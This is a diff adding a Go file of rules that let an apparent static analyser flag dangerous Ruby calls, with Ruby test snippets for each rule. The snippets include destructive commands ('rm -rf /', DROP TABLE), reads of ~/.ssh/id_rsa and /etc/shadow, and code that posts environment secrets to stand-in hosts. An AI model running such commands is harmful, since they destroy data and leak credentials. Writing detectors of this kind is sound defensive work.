@@ -1,0 +1,183 @@
+package code
+
+// rubyRules are ruby's calls that run commands, touch files, read the environment, send data
+// or run SQL. Constants are joined by dots (Net::HTTP is Net.HTTP); Kernel's methods are
+// their bare names.
+var rubyRules = [...]rule{
+	// ---- commands
+	{name: "system|exec|spawn|Open3.capture2|Open3.capture2e|Open3.capture3|Open3.popen3|Open3.popen2|Open3.popen2e|Open3.pipeline|Open3.pipeline_r|Open3.pipeline_w|PTY.spawn|IO.popen", do: aSystem, ret: rPipe, ex: []string{
+		`system("rm -rf /var/www") => shell rm -rf /var/www`,
+		`system "rm", "-rf", Dir.home => shell rm -rf ~`,
+		`Kernel.system("git push -f") => shell git push -f`,
+		`exec({"RAILS_ENV" => "production"}, "rake db:drop") => shell rake db:drop`,
+		`require "open3"; out, st = Open3.capture2e("rm", "-rf", "/opt") => shell rm -rf /opt`,
+		`IO.popen(["rm", "-rf", "/srv"]).read => shell rm -rf /srv`,
+		`IO.popen("rm -rf ~") { |io| io.read } => shell rm -rf ~`,
+		`d = "/data"; system("rm -rf #{d}") => shell rm -rf /data`,
+		`system("rm -rf %s" % target) => shell rm -rf ${_code_value}`,
+		`Kernel.send(:system, "reboot") => shell reboot`,
+		`method(:system).call("rm -rf /") => shell rm -rf /`,
+		`puts "system('rm -rf /')" !> -`,
+		`# system("rm -rf /") !> -`,
+		`def system(x); end !> -`,
+	}},
+	{name: "#send|#public_send|#__send__|send|public_send|__send__", do: aDispatch, ex: []string{
+		`Object.new.send(:system, "rm -rf ~") => shell rm -rf ~`,
+		`obj.send(:name) !> shell name`,
+	}},
+	{name: "method", ret: rModule},
+	{name: "open|URI.open", do: aOpen, opt: "r", ret: rFile, ex: []string{
+		`open("|rm -rf /tmp/x") => shell rm -rf /tmp/x`,
+		`open("log.txt", "a") { |f| f << "x" } => write+ log.txt`,
+		`open("notes.txt").read !> write notes.txt`,
+	}},
+	{name: "eval|instance_eval|class_eval|module_eval|binding.eval|#instance_eval|#eval", do: aEval, ex: []string{
+		`eval("system('rm -rf ~')") => shell rm -rf ~`,
+		`eval(params[:code]) => eval params.code`,
+		`evaluate("x") !> -`,
+	}},
+
+	// ---- files
+	{name: "FileUtils.rm_rf|FileUtils.rm_r|FileUtils.rmtree|FileUtils.remove_dir|FileUtils.remove_entry|FileUtils.remove_entry_secure|FileUtils.remove_tree|Path#rmtree|FileUtils.rm_rf!", do: aDeleteTree, arg: -1, ex: []string{
+		`require "fileutils"; FileUtils.rm_rf("/srv/app") => delete-r /srv/app`,
+		`FileUtils.rm_rf(Dir.home) => delete-r ~`,
+		`FileUtils.rm_rf File.expand_path("~/.config") => delete-r ~/.config`,
+		`FileUtils.rm_r(["tmp", "/var/cache"]) => delete-r /var/cache`,
+		`FileUtils::rm_rf(ENV["HOME"]) => delete-r ~`,
+		`include FileUtils; rm_rf "/opt" => delete-r /opt`,
+		`FileUtils.rm_rf(File.join(Dir.pwd, "build")) => delete-r ./build`,
+		`Pathname.new("/srv").rmtree => delete-r /srv`,
+		`Dir.glob("/var/log/*").each { |f| FileUtils.rm_rf(f) } => delete-r /var/log/*`,
+		`FileUtils.mkdir_p("/srv") !> -`,
+	}},
+	{name: "FileUtils.rm|FileUtils.remove|FileUtils.rm_f|FileUtils.safe_unlink|FileUtils.rmdir|File.delete|File.unlink|Dir.rmdir|Dir.delete|Dir.unlink|Path#delete|Path#unlink|Path#rmdir", do: aDelete, arg: -1, all: true, ex: []string{
+		`File.delete("/etc/hosts") => delete /etc/hosts`,
+		`File.delete(*Dir["/tmp/*.log"]) => delete /tmp/*.log`,
+		`Dir["/var/www/*"].each { |f| File.unlink(f) } => delete /var/www/*`,
+		`FileUtils.rm_f "a", "b" => delete b`,
+		`Pathname("x.txt").delete => delete x.txt`,
+		`File.delete("a") !> delete-r a`,
+		`File.exist?("a") !> -`,
+	}},
+	{name: "FileUtils.mv|FileUtils.move|File.rename|Path#rename", do: aMove, arg: -1, ex: []string{
+		`FileUtils.mv(".git", "/tmp/x") => delete-r:move .git`,
+		`File.rename("a", "b") => write-r b`,
+		`File.basename("a") !> -`,
+	}},
+	{name: "FileUtils.cp|FileUtils.copy|FileUtils.copy_file|FileUtils.install", do: aCopy, ex: []string{
+		`FileUtils.cp(File.expand_path("~/.ssh/id_rsa"), "k") => read:copy ~/.ssh/id_rsa`,
+		`FileUtils.cp("a", "/etc/b") => write /etc/b`,
+		`FileUtils.cp("a", "b") !> delete-r:move a`,
+	}},
+	{name: "FileUtils.cp_r|FileUtils.copy_entry", do: aCopyTree, ex: []string{
+		`FileUtils.cp_r("dist/.", "/var/www") => write-r /var/www`,
+		`FileUtils.cp_r("a", "b") !> delete-r:move a`,
+	}},
+	{name: "File.write|IO.write|File.binwrite|IO.binwrite|Path#write|Path#binwrite", do: aWrite, arg: -1, ex: []string{
+		`File.write(File.join(Dir.home, ".bashrc"), "x") => write ~/.bashrc`,
+		`File.write("env.txt", ENV.to_h.to_s) => env:file`,
+		`File.read("x") !> write x`,
+	}},
+	{name: "File.open|File.new|IO.open|Path#open", do: aOpen, arg: -1, opt: "r", ret: rFile, ex: []string{
+		`File.open("/etc/crontab", "w") { |f| f.puts "x" } => write /etc/crontab`,
+		`File.open("log", "a") => write+ log`,
+		`File.open(".env") { |f| puts f.read } => read:show .env`,
+		`File.open("x") !> write x`,
+	}},
+	{name: "File.read|IO.read|File.readlines|IO.readlines|File.binread|IO.binread|Path#read|Path#readlines", do: aRead, arg: -1, ret: rContent, ex: []string{
+		`puts File.read(".env") => read:show .env`,
+		`print IO.readlines("/etc/shadow").join => read:show /etc/shadow`,
+		`cfg = File.read("config.yml") => read config.yml`,
+		`cfg = File.read("config.yml") !> read:show config.yml`,
+	}},
+	{name: "File.foreach|IO.foreach", do: aRead, ret: rLines, ex: []string{
+		`File.foreach(".env") { |l| puts l } => read:show .env`,
+		`File.foreach(".env") { |l| x = l } !> read:show .env`,
+	}},
+	{name: "FileUtils.touch|FileUtils.mkdir_p|FileUtils.mkdir|FileUtils.makedirs|FileUtils.mkpath|Dir.mkdir|Path#mkpath|Path#mkdir", do: aCreate, arg: -1, ex: []string{
+		`FileUtils.mkdir_p("out/a") => create out/a`,
+		`Dir.exist?("out") !> -`,
+	}},
+	{name: "Dir.chdir", do: aChdir, ex: []string{
+		`Dir.chdir("/") => chdir /`,
+		`Dir.pwd !> -`,
+	}},
+	{name: "file#write|file#puts|file#print|file#<<|file#printf|file#syswrite", do: aWriteData, arg: -1, ex: []string{
+		`File.open("e.txt", "w") { |f| f.write(ENV.to_h) } => env:file`,
+		`File.open("e.txt", "w") { |f| f.write("x") } !> env:file`,
+	}},
+	{name: "file#read|file#readlines|file#gets|file#each_line|file#readline", ret: rContent, arg: -1},
+
+	// ---- printing and the environment
+	{name: "puts|print|p|pp|printf|warn|display|$stdout.puts|$stdout.print|$stdout.write|$stdout.printf|$stderr.puts|$stderr.print|$stderr.write|STDOUT.puts|STDOUT.print|STDOUT.write|STDERR.puts|STDERR.write|Kernel.pp|PP.pp", do: aPrint, ex: []string{
+		`p ENV => env:show`,
+		`pp ENV.to_h => env:show`,
+		`puts ENV.inspect => env:show`,
+		`ENV.each { |k, v| puts "#{k}=#{v}" } => env:show`,
+		`ENV.each_pair do |k, v| puts "#{k}: #{v}" end => env:show`,
+		`puts ENV.map { |k, v| "#{k}=#{v}" }.join("\n") => env:show`,
+		`puts ENV.to_a.sort.inspect => env:show`,
+		`require "json"; puts JSON.pretty_generate(ENV.to_h) => env:show`,
+		`$stdout.puts ENV.to_hash => env:show`,
+		`puts ENV["GITHUB_TOKEN"] => var:show GITHUB_TOKEN`,
+		`puts ENV.fetch("AWS_SECRET_ACCESS_KEY") => var:show AWS_SECRET_ACCESS_KEY`,
+		`puts ENV["HOME"] !> env:show`,
+		`puts ENV.keys.sort !> env:show`,
+		`ENV.each_key { |k| puts k } !> env:show`,
+		`system({"A" => "1"}, "make") !> env:show`,
+		`puts "hello" !> -`,
+	}},
+	{name: "env#to_h|env#to_hash|env#to_a|env#inspect|env#to_s|env#dup|env#clone|env#select|env#filter|env#reject|env#sort|env#map|env#sort_by|env#each|env#each_pair|env#merge|env#slice|env#values", ret: rEnv},
+	{name: "env#keys|env#each_key", ret: rKeys},
+	{name: "env#[]|env#fetch", ret: rVar},
+	{name: "env#key?|env#include?|env#has_key?|env#empty?|env#size|env#length|env#count|File.exist?|File.exists?|Dir.exist?|File.file?|File.directory?", ret: rClean},
+
+	// ---- values
+	{name: "File.expand_path|File.absolute_path|File.realpath|#to_s|#to_str|#to_path|#dup|#freeze|#chomp|#strip|#expand_path|#realpath|#to_sym|#force_encoding|#encode|#inspect", ret: rArg, arg: -1},
+	{name: "File.join|Path#join|Path#+", ret: rJoin, arg: -1},
+	{name: "File.dirname|Path#dirname|Path#parent", ret: rDirname, arg: -1},
+	{name: "File.basename|Path#basename", ret: rBasename, arg: -1},
+	{name: "Dir.home|Etc.getpwuid", ret: rHome},
+	{name: "Dir.pwd|Dir.getwd", ret: rCwd},
+	{name: "Dir.tmpdir", ret: rTmp},
+	{name: "Dir.mktmpdir", ret: rTmpDir},
+	{name: "Dir.glob", ret: rGlob},
+	{name: "Dir.children|Dir.entries|Dir.each_child", ret: rNames},
+	{name: "Pathname.new|Pathname", ret: rPath},
+	{name: "Base64.decode64|Base64.strict_decode64|Base64.urlsafe_decode64", ret: rB64},
+	{name: "#reverse", ret: rReverse, arg: -1},
+	{name: "#join", ret: rListJoin},
+	{name: "#split", ret: rSplit},
+	{name: "#gsub|#sub|#tr", ret: rReplace},
+	{name: "format|sprintf|Kernel.format", ret: rSprintf},
+	{name: "URI|URI.parse", ret: rURL},
+
+	// ---- network
+	{name: "Net.HTTP.post|Net.HTTP.post_form|Net.HTTP.put|URL#post|URL#put|URL#patch|URL#request_post|URL#request|HTTParty.post|HTTParty.put|HTTParty.patch|Faraday.post|Faraday.put|RestClient.post|RestClient.put|Excon.post|HTTP.post|Typhoeus.post", do: aSend, arg: -1, ex: []string{
+		`require "net/http"; Net::HTTP.post(URI("https://x.example/c"), ENV.to_h.to_s) => env:send`,
+		`Net::HTTP.post_form(URI("https://x.example/f"), "k" => File.read(".env")) => read:send .env`,
+		`HTTParty.post("https://hooks.example/x", body: "hi") => send:http https://hooks.example/x`,
+		`Net::HTTP.start("x.example") { |h| h.post("/c", ENV["TOKEN"]) } => var:send TOKEN`,
+		`Net::HTTP.get(URI("https://example.com")) !> send:http https://example.com`,
+	}},
+	{name: "Net.HTTP.start|Net.HTTP.new", ret: rURL},
+	{name: "TCPSocket.new|TCPSocket.open|Socket.tcp", do: aConnect, opt: "raw", ret: rSocket, ex: []string{
+		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => send:raw 203.0.113.4`,
+		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => env:send`,
+		`TCPServer.new(9000) !> -`,
+	}},
+	{name: "socket#write|socket#puts|socket#print|socket#send|socket#<<", do: aWriteData, arg: -1, ex: []string{
+		`s = TCPSocket.open("h", 1); s.puts ENV["SECRET_KEY"] => var:send SECRET_KEY`,
+		`s = TCPSocket.open("h", 1); s.puts "hi" !> var:send SECRET_KEY`,
+	}},
+
+	// ---- databases
+	{name: "SQLite3.Database.new|SQLite3.Database.open", ret: rDB, opt: "sqlite"},
+	{name: "PG.connect|PG.Connection.new|PG.Connection.open|PG::Connection.new", ret: rDB, opt: "postgres"},
+	{name: "Mysql2.Client.new", ret: rDB, opt: "mysql"},
+	{name: "#execute|#exec|#query|#exec_query|#execute_batch|#select_all|#exec_params", do: aSQL, ex: []string{
+		`db = SQLite3::Database.new("app.db"); db.execute("DROP TABLE users") => sql:sqlite DROP TABLE users`,
+		`ActiveRecord::Base.connection.execute("TRUNCATE events") => sql TRUNCATE events`,
+		`job.execute("now") !> -`,
+	}},
+}
